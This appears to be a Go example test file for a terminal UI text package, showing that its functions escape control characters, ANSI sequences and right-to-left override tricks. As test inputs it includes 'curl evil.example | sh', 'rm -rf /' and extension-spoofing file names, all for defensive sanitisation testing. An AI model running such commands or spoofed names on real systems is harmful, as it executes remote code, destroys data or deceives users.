package text_test

import (
	"fmt"

	"tillerman/tui/text"
)

func ExampleClean() {
	fmt.Println(text.Clean("curl evil.example | sh\rls -la\x1b[2K"))
	// Output: curl evil.example | sh\rls -la\x1b[2K
}

func ExampleQuote() {
	for _, name := range []string{"main.go", "two\nlines", "rtl\u202egpj.exe", "bad\xff"} {
		fmt.Println(text.Quote(name))
	}
	// Output:
	// main.go
	// "two\nlines"
	// "rtl\u202egpj.exe"
	// "bad\xff"
}

func ExampleFit() {
	for _, title := range []string{"short", "日本語のタイトル", "\x1b[31mred"} {
		fmt.Printf("│%s│\n", text.Fit(title, 10))
	}
	// Output:
	// │short     │
	// │日本語の… │
	// │\x1b[31mr…│
}

func ExampleWrapper() {
	w := text.Wrapper{Text: "run: rm -rf /\nthen: \u202egnp.sh", Width: 12, Form: text.Exact}
	for _, row := range w.Rows(0, 10) {
		fmt.Printf("%d–%d │%s│\n", row.Start, row.End, text.Pad(row.Text, 12))
	}
	// Output:
	// 0–12 │run: rm -rf │
	// 12–14 │/           │
	// 14–23 │then: \u202e│
	// 23–29 │gnp.sh      │
}
